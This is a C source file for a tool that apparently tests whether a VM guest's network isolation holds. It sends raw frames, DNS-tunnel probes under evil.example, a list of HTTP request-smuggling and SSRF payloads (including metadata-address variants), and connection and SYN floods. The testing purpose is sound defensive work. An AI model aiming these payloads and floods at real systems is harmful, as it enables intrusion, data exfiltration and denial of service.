/*
 * What a guest's root can send in masses, to find out that nobody else hears it. Static, for
 * any image. Each prints one line of figures, and succeeds when it could do what it does.
 *
 *   noise frames LINK        frames for every guest there may be: {TCP, UDP, ICMP, ARP} to
 *                            the MACs and addresses of a session's two ends, of neighbours, of all
 *   noise labels N NAME      N random labels below names that are not allowed (and below NAME,
 *                            which is): A and TXT over UDP and TCP to the gateway and to 8.8.8.8,
 *                            over 853, as requests and tunnels by the proxy
 *   noise requests N NAME    N requests, bent in every way that parsers differ about, to the proxy,
 *                            to the broker and to NAME itself: for others than NAME; the seed is
 *                            said first, and may be given behind NAME
 *   noise flows N NAME PORT  N connections to NAME:PORT, as many open at a time as are given,
 *                            and N packets of connections that are never finished; N 0: without
 *                            end, until its stdin has one; when the first is refused it says
 *                            "full", and goes on with 200 a second
 *   noise calls N NAME PORT  N connections one after the other, each with an echo: the
 *                            longest, and the one that 99 of 100 are shorter than, in ms
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/random.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#define GATEWAY "10.200.0.1"
enum { WAIT_MS = 200, ANSWER_MS = 20000, FLOWS = 4096 };

static long long now_ms(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000LL + t.tv_nsec / 1000000;
}

static int failed(const char *what)
{
	perror(what);
	return 1;
}

/* Frames. */

static uint16_t sum(const uint8_t *p, size_t n)
{
	uint32_t s = 0;

	for (size_t i = 0; i + 1 < n; i += 2)
		s += (uint32_t)(p[i] << 8 | p[i + 1]);
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

/* Ethernet and IPv4 before what is at f + 34; the frame's length. */
static size_t wrap(uint8_t *f, const uint8_t to[6], const uint8_t from[6], const char *address, int protocol, size_t n)
{
	uint8_t *h = f + 14;
	uint16_t check;

	memcpy(f, to, 6);
	memcpy(f + 6, from, 6);
	memcpy(f + 12, "\x08\x00", 2);
	memcpy(h, "\x45\0\0\0\x42\x42\0\0\x40\0\0\0", 12);
	h[2] = (uint8_t)((20 + n) >> 8);
	h[3] = (uint8_t)(20 + n);
	h[9] = (uint8_t)protocol;
	inet_pton(AF_INET, "10.200.0.2", h + 12);
	inet_pton(AF_INET, address, h + 16);
	check = htons(sum(h, 20));
	memcpy(h + 10, &check, 2);
	return 34 + n;
}

static struct in_addr address(const char *text)
{
	struct in_addr a;

	inet_pton(AF_INET, text, &a);
	return a;
}

/* The checksum of a SYN from us at f + 34. */
static void finish(uint8_t *f, struct in_addr to)
{
	uint8_t all[32] = { 10, 200, 0, 2, 0, 0, 0, 0, 0, 6, 0, 20 };
	uint16_t check;

	memcpy(all + 4, &to, 4);
	memcpy(all + 12, f + 34, 20);
	memset(all + 28, 0, 2);
	check = htons(sum(all, 32));
	memcpy(f + 50, &check, 2);
}

static int packets(const char *link, uint8_t mac[6])
{
	struct sockaddr_ll a = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = (int)if_nametoindex(link) };
	struct ifreq r = { 0 };
	int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));

	snprintf(r.ifr_name, sizeof(r.ifr_name), "%s", link);
	if (fd < 0 || bind(fd, (struct sockaddr *)&a, sizeof(a)) < 0 || ioctl(fd, SIOCGIFHWADDR, &r) < 0)
		return -1;
	memcpy(mac, r.ifr_hwaddr.sa_data, 6);
	return fd;
}

static int frames(const char *link)
{
	static const uint8_t macs[][6] = { { 255, 255, 255, 255, 255, 255 }, { 2, 0xfc, 0, 0, 0, 1 }, { 2, 0xfc, 0, 0, 0, 2 },
					   { 2, 0xfc, 0, 0, 0, 6 }, { 1, 0, 0x5e, 0, 0, 1 } };
	static const char *const addresses[] = { "10.200.0.1", "10.200.0.2", "10.200.0.3", "10.200.0.5", "10.200.0.6",
						 "10.200.1.2", "255.255.255.255", "224.0.0.1" };
	uint8_t mac[6], f[128];
	int fd = packets(link, mac), sent[4] = { 0 };

	if (fd < 0)
		return failed(link);
	for (size_t m = 0; m < sizeof(macs) / sizeof(*macs); m++)
		for (size_t a = 0; a < sizeof(addresses) / sizeof(*addresses); a++)
			for (int what = 0; what < 4; what++) {
				size_t n;

				memset(f, 0, sizeof(f));
				if (what == 0) { /* TCP: a SYN to 7777 */
					memcpy(f + 34, "\x13\x88\x1e\x61\0\0\0\1\0\0\0\0\x50\x02\x72\x10", 16);
					finish(f, address(addresses[a]));
					n = wrap(f, macs[m], mac, addresses[a], 6, 20);
				} else if (what == 1) { /* UDP, without a checksum, to 7778 */
					memcpy(f + 34, "\x13\x88\x1e\x62\0\x10\0\0pairwise", 16);
					n = wrap(f, macs[m], mac, addresses[a], 17, 16);
				} else if (what == 2) {
					memcpy(f + 34, "\x08\0\0\0\0\1\0\1", 8);
					f[36] = 0xf7;
					f[37] = 0xfd;
					n = wrap(f, macs[m], mac, addresses[a], 1, 8);
				} else {
					memcpy(f, macs[m], 6);
					memcpy(f + 6, mac, 6);
					memcpy(f + 12, "\x08\x06\0\1\x08\0\6\4\0\1", 10);
					memcpy(f + 22, mac, 6);
					inet_pton(AF_INET, "10.200.0.2", f + 28);
					inet_pton(AF_INET, addresses[a], f + 38);
					n = 42;
				}
				sent[what] += send(fd, f, n, 0) == (ssize_t)n;
			}
	printf("frames tcp %d udp %d icmp %d arp %d\n", sent[0], sent[1], sent[2], sent[3]);
	return !(sent[0] && sent[1] && sent[2] && sent[3]);
}

/* Connections. */

static int ask(const char *name, struct in_addr *out);

static int dial(struct in_addr to, int port, int ms)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port), .sin_addr = to };
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	struct timeval t = { ms / 1000, ms % 1000 * 1000 };

	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof(t));
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &t, sizeof(t));
	if (connect(fd, (struct sockaddr *)&a, sizeof(a)) == 0)
		return fd;
	close(fd);
	return -1;
}

/* Labels. */

static size_t question(uint8_t q[512], const char *name, int type)
{
	size_t n = 12;

	memcpy(q, "\x12\x34\x01\0\0\1\0\0\0\0\0\0", 12);
	for (const char *p = name; *p;) {
		size_t k = strcspn(p, ".");

		q[n++] = (uint8_t)k;
		memcpy(q + n, p, k);
		n += k;
		p += k + (p[k] == '.');
	}
	memcpy(q + n, "\0\0\0\0\1", 5);
	q[n + 2] = (uint8_t)type;
	return n + 5;
}

/* The code of the answer, -1 for none. */
static int by_udp(const char *server, const char *name, int type, int ms, uint8_t *r, size_t cap)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(53), .sin_addr = address(server) };
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	struct timeval t = { ms / 1000, ms % 1000 * 1000 };
	uint8_t q[512];
	size_t n = question(q, name, type);
	ssize_t got;

	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof(t));
	got = connect(fd, (struct sockaddr *)&a, sizeof(a)) < 0 || send(fd, q, n, 0) < 0 ? -1 : recv(fd, r, cap, 0);
	close(fd);
	return got < 12 ? -1 : r[3] & 15;
}

static int ask(const char *name, struct in_addr *out)
{
	uint8_t r[1500];

	if (by_udp(GATEWAY, name, 1, ANSWER_MS, r, sizeof(r)) != 0 || !r[7])
		return -1;
	memcpy(out, r + 12 + strlen(name) + 2 + 4 + 12, 4);
	return 0;
}

/* To a port of a server, as DNS over TCP or as whatever listens there takes it. */
static int by_tcp(const char *server, int port, const char *name, int type)
{
	int fd = dial(address(server), port, WAIT_MS * 10);
	uint8_t q[514], r[16];
	size_t n = question(q + 2, name, type);
	ssize_t got;

	if (fd < 0)
		return -1;
	q[0] = 0;
	q[1] = (uint8_t)n;
	got = send(fd, q, n + 2, MSG_NOSIGNAL) < 0 ? -1 : recv(fd, r, sizeof(r), MSG_WAITALL);
	close(fd);
	return got < 12 ? -1 : r[5] & 15;
}

static bool by_proxy(const char *request)
{
	int fd = dial(address(GATEWAY), 3128, ANSWER_MS);
	char got[256] = "";

	if (fd < 0)
		return false;
	if (send(fd, request, strlen(request), MSG_NOSIGNAL) > 0 && recv(fd, got, sizeof(got) - 1, 0) < 0)
		got[0] = '\0';
	close(fd);
	return strncmp(got, "HTTP/1.1 403", 12) == 0;
}

static int labels(int n, const char *allowed)
{
	int refused = 0, silent = 0, answered = 0, closed = 0, forbidden = 0, other = 0, own = 0;

	for (int i = 0; i < n; i++) {
		static const char *const below[] = { "evil.example", "dns.example", "x.vmdeck" };
		char name[200], text[600];
		uint8_t r[1500];
		uint64_t random;
		int code;

		if (getrandom(&random, sizeof(random), 0) < 0)
			return failed("random");
		snprintf(name, sizeof(name), "label-%016llx.%s", (unsigned long long)random, i % 4 == 3 ? allowed : below[i % 4]);
		switch (i % 10) {
		case 0: case 1: case 2: case 3:
			code = by_udp(GATEWAY, name, i % 2 ? 16 : 1, ANSWER_MS, r, sizeof(r));
			break;
		case 4: case 5:
			code = by_tcp(GATEWAY, 53, name, i % 2 ? 16 : 1);
			break;
		case 6: /* somebody else's server: refused by the wall, or nothing */
			code = by_udp("8.8.8.8", name, 1, WAIT_MS, r, sizeof(r));
			closed += code < 0;
			answered += code >= 0;
			continue;
		case 7:
			code = by_tcp(i % 20 < 10 ? "8.8.8.8" : GATEWAY, i % 4 < 2 ? 853 : i % 20 < 10 ? 53 : 853, name, 1);
			closed += code < 0;
			answered += code >= 0;
			continue;
		case 8:
			snprintf(text, sizeof(text), "CONNECT %s:443 HTTP/1.1\r\nHost: %s\r\n\r\n", name, name);
			by_proxy(text) ? forbidden++ : other++;
			continue;
		default: /* what a query over HTTPS looks like in a tunnel's own words */
			snprintf(text, sizeof(text), "GET http://dns.example/dns-query?name=%s HTTP/1.1\r\nHost: dns.example\r\n\r\n", name);
			by_proxy(text) ? forbidden++ : other++;
			continue;
		}
		if (i % 4 == 2 && code == 0) /* .vmdeck is the gateway's own, whatever is before it */
			own++;
		else
			code == 5 || code == 3 ? refused++ : code < 0 ? silent++ : answered++;
	}
	printf("labels %d: refused %d closed %d forbidden %d own %d answered %d silent %d other %d\n", n, refused, closed,
	       forbidden, own, answered, silent, other);
	return answered || silent || other;
}

/* Requests. %s is a host that is not meant, or one that looks like it. */

static const char *const hosts[] = {
	"evil.example", "ok.example@evil.example", "evil.example#@ok.example", "evil.example?@ok.example", "ok.example\\@evil.example",
	"evil.example%00.ok.example", "ok.example%2eevil.example", "ok.example.evil.example", "evil.example/ok.example", "ok.example:80@evil.example",
	"ok.example:80:22", "ok.example:22", "ok.example:00080", "ok.example:4294967376", "ok.example:-1", "ok.example:", "ok.example.",
	"OK.example", "[::ffff:169.254.169.254]", "[::1]", "169.254.169.254", "0xa9fea9fe", "2852039166", "0251.0376.0251.0376", "127.1",
	"localhost", "a-127-0-0-1.lan.example", "a-93-184-216-2.lan.example", "evil.example\t", "evil.example,ok.example", "ok.example evil.example",
	"anthropic.vmdeck@evil.example", "anthropic.vmdeck.evil.example", ".evil.example", "evil.example..", "", "-",
};
static const char *const forms[] = {
	"CONNECT %s:443 HTTP/1.1\r\nHost: %s\r\n\r\n",
	"CONNECT %s HTTP/1.1\r\nHost: ok.example:443\r\n\r\n",
	"GET http://%s/bent HTTP/1.1\r\nHost: ok.example\r\n\r\n",
	"GET http://%s/bent HTTP/1.1\r\nHost: %s\r\n\r\n",
	"GET http://ok.example/bent HTTP/1.1\r\nHost: %s\r\n\r\n",
	"GET http://ok.example/bent HTTP/1.1\r\nHost: ok.example\r\nHost: %s\r\n\r\n",
	"GET http://ok.example/bent HTTP/1.1\r\nHost: ok.example\r\n Host: %s\r\n\r\n",
	"GET /bent HTTP/1.1\r\nHost : %s\r\nHost: ok.example\r\n\r\n",
	"GET /bent HTTP/1.1\r\nHost: %s\r\n\r\n",
	"GET /bent HTTP/1.1\nHost: %s\n\n",
	"GET //%s/bent HTTP/1.1\r\nHost: ok.example\r\n\r\n",
	"GET @%s/bent HTTP/1.1\r\nHost: anthropic.vmdeck\r\n\r\n",
	"GET .%s/bent HTTP/1.1\r\nHost: anthropic.vmdeck\r\n\r\n",
	"GET :8446/%s HTTP/1.1\r\nHost: anthropic.vmdeck\r\n\r\n",
	"GET /bent@%s HTTP/1.1\r\nHost: anthropic.vmdeck\r\nConnection: x-api-key, host\r\n\r\n",
	"GET http://anthropic.vmdeck@%s/bent HTTP/1.1\r\nHost: anthropic.vmdeck\r\n\r\n",
	"GET https:%s/bent HTTP/1.1\r\nHost: ok.example\r\n\r\n",
	"GET ftp://%s/bent HTTP/1.1\r\nHost: %s\r\n\r\n",
	"GET /bent HTTP/0.9\r\nHost: %s\r\n\r\n",
	"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n%s",
	/* a second request inside what one reader takes for the first's body */
	"POST /one HTTP/1.1\r\nHost: ok.example\r\nContent-Length: 0\r\nContent-Length: 90\r\n\r\nGET /bent HTTP/1.1\r\nHost: %s\r\n\r\n",
	"POST /one HTTP/1.1\r\nHost: ok.example\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /bent HTTP/1.1\r\nHost: %s\r\n\r\n",
	"POST /one HTTP/1.1\r\nHost: ok.example\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\nGET /bent HTTP/1.1\r\nHost: %s\r\n\r\n",
	"POST /one HTTP/1.1\r\nHost: ok.example\r\nTransfer-Encoding: xchunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\nGET /bent HTTP/1.1\r\nHost: %s\r\n\r\n",
	"POST /one HTTP/1.1\r\nHost: ok.example\r\nContent-Length: +5\r\n\r\n12345GET /bent HTTP/1.1\r\nHost: %s\r\n\r\n",
	"POST /one HTTP/1.1\r\nHost: ok.example\r\nContent-Length: 5, 5\r\n\r\n12345GET /bent HTTP/1.1\r\nHost: %s\r\n\r\n",
	"POST /one HTTP/1.1\r\nHost: ok.example\r\nTransfer-Encoding: chunked\r\n\r\n5;\n\r\n12345\r\n0\r\n\r\nGET /bent HTTP/1.1\r\nHost: %s\r\n\r\n",
	"POST /one HTTP/1.1\r\nHost: ok.example\r\nTransfer-Encoding: chunked\r\n\r\n0x0\r\n\r\nGET /bent HTTP/1.1\r\nHost: %s\r\n\r\n",
	"GET /one HTTP/1.1\r\nHost: ok.example\r\n\r\nGET /bent HTTP/1.1\r\nHost: %s\r\n\r\n",
	"HEAD /one HTTP/1.1\r\nHost: ok.example\r\nUpgrade: websocket\r\nConnection: upgrade\r\n\r\nGET /bent HTTP/1.1\r\nHost: %s\r\n\r\n",
	"\r\n\r\nGET /bent HTTP/1.1\r\nHost: %s\r\n\r\n",
};

/* The form with the host wherever it has %s; its length. */
static int fill(char *out, int cap, const char *form, const char *host)
{
	int n = 0;

	for (; *form && n < cap - 1; form++)
		if (form[0] == '%' && form[1] == 's') {
			for (const char *p = host; *p && n < cap - 1; p++)
				out[n++] = *p;
			form++;
		} else {
			out[n++] = *form;
		}
	return n;
}

static int requests(int n, const char *name, unsigned seed)
{
	enum { HOSTS = sizeof(hosts) / sizeof(*hosts), FORMS = sizeof(forms) / sizeof(*forms) };
	int sent = 0, good = 0, no = 0, nothing = 0;
	struct in_addr to;

	printf("seed %u\n", seed);
	if (ask(name, &to) < 0)
		return failed(name);
	srandom(seed);
	for (int i = 0; i < n; i++) {
		const char *host = hosts[i < FORMS * HOSTS ? i / FORMS % HOSTS : random() % HOSTS];
		char text[2048], got[512] = "";
		int where = (int)(random() % 3), len, fd;

		/* each form in turn; with each host in the first FORMS x HOSTS of them */
		len = fill(text, sizeof(text), forms[i % FORMS], host);
		for (long bends = random() % 4; bends > 0 && i % 3; bends--) {
			static const char odd[] = "\0\t\v\r\n :/@%#\\\x80\xff,;";
			int at = (int)(random() % len);

			if (random() % 2 && len < (int)sizeof(text) - 1) {
				memmove(text + at + 1, text + at, (size_t)(len++ - at));
				text[at] = odd[random() % (long)sizeof(odd)];
			} else {
				text[at] = odd[random() % (long)sizeof(odd)];
			}
		}
		fd = where == 2 ? dial(to, 80, ANSWER_MS) : dial(address(GATEWAY), where ? 3128 : 80, ANSWER_MS);
		if (fd < 0)
			continue;
		if (send(fd, text, (size_t)len, MSG_NOSIGNAL) == len)
			sent++;
		shutdown(fd, SHUT_WR);
		if (recv(fd, got, sizeof(got) - 1, 0) <= 0)
			nothing++;
		else if (!strncmp(got, "HTTP/1.1 200", 12) || strstr(got, "decoy"))
			good++;
		else
			no++;
		close(fd);
	}
	printf("requests %d: sent %d answered %d refused %d broken off %d\n", n, sent, good, no, nothing);
	return sent < n * 9 / 10;
}

/* Floods. */

/* Its stdin was closed by whoever started it, within so many ms. */
static bool told_to_end(int ms)
{
	struct pollfd p = { .fd = 0, .events = POLLIN };

	return poll(&p, 1, ms) > 0;
}

static int flows(int n, const char *name, int port)
{
	struct rlimit most = { FLOWS + 64, FLOWS + 64 };
	struct in_addr to;
	static int fds[FLOWS];
	int open = 0, given = 0, refused = 0, sent = 0, fd;
	uint8_t mac[6], f[128] = { 0 };
	char text[32];

	setrlimit(RLIMIT_NOFILE, &most);
	if (ask(name, &to) < 0)
		return failed(name);
	for (int i = 0; n ? i < n : !told_to_end(refused ? 5 : 0); i++) {
		if (open == FLOWS) /* the oldest ones go, without a word */
			while (open > FLOWS / 2)
				close(fds[--open]);
		fd = dial(to, port, ANSWER_MS);
		if (fd >= 0 && send(fd, "flow\n", 5, MSG_NOSIGNAL) == 5) {
			fds[open++] = fd;
			given++;
		} else {
			if (refused++ == 0 && n == 0 && puts("full") >= 0)
				fflush(stdout);
			if (fd >= 0)
				close(fd);
			if (open == 0 && refused > 100)
				break;
		}
	}
	fd = packets("eth0", mac);
	inet_ntop(AF_INET, &to, text, sizeof(text));
	for (int i = 0; fd >= 0 && i < n * 10; i++) {
		static const uint8_t gateway[6] = { 2, 0xfc, 0, 0, 0, 1 };
		uint16_t source = htons((uint16_t)(1024 + i % 60000)), where = htons((uint16_t)port);

		memcpy(f + 34, &source, 2);
		memcpy(f + 36, &where, 2);
		memcpy(f + 38, &i, 4);
		memcpy(f + 46, "\x50\x02\x72\x10", 4);
		finish(f, to);
		sent += send(fd, f, wrap(f, gateway, mac, text, 6, 20), 0) > 0;
	}
	printf("flows %d: given %d refused %d open %d packets %d\n", n, given, refused, open, sent);
	fflush(stdout);
	/* Kept open while others call, until told otherwise. */
	if (read(0, text, 1) < 0)
		return 1;
	return !given;
}

static int longer(const void *a, const void *b)
{
	return *(const int *)a - *(const int *)b;
}

static int calls(int n, const char *name, int port)
{
	static int took[10000];
	int good = 0;

	for (int i = 0; i < n && i < 10000; i++) {
		long long began = now_ms();
		struct in_addr to;
		char got[8];
		int fd = ask(name, &to) < 0 ? -1 : dial(to, port, ANSWER_MS);

		if (fd >= 0 && send(fd, "echo\n", 5, MSG_NOSIGNAL) == 5 && recv(fd, got, 5, MSG_WAITALL) == 5)
			took[good++] = (int)(now_ms() - began);
		close(fd);
	}
	qsort(took, (size_t)good, sizeof(*took), longer);
	printf("calls %d: good %d p50 %d p99 %d longest %d\n", n, good, good ? took[good / 2] : -1,
	       good ? took[good * 99 / 100] : -1, good ? took[good - 1] : -1);
	return good != n;
}

int main(int argc, char **argv)
{
	const char *what = argc > 2 ? argv[1] : "";

	if (!strcmp(what, "frames"))
		return frames(argv[2]);
	if (!strcmp(what, "labels") && argc == 4)
		return labels(atoi(argv[2]), argv[3]);
	if (!strcmp(what, "requests") && argc >= 4)
		return requests(atoi(argv[2]), argv[3], argc > 4 ? (unsigned)atoi(argv[4]) : (unsigned)time(NULL));
	if (!strcmp(what, "flows") && argc == 5)
		return flows(atoi(argv[2]), argv[3], atoi(argv[4]));
	if (!strcmp(what, "calls") && argc == 5)
		return calls(atoi(argv[2]), argv[3], atoi(argv[4]));
	return 2;
}
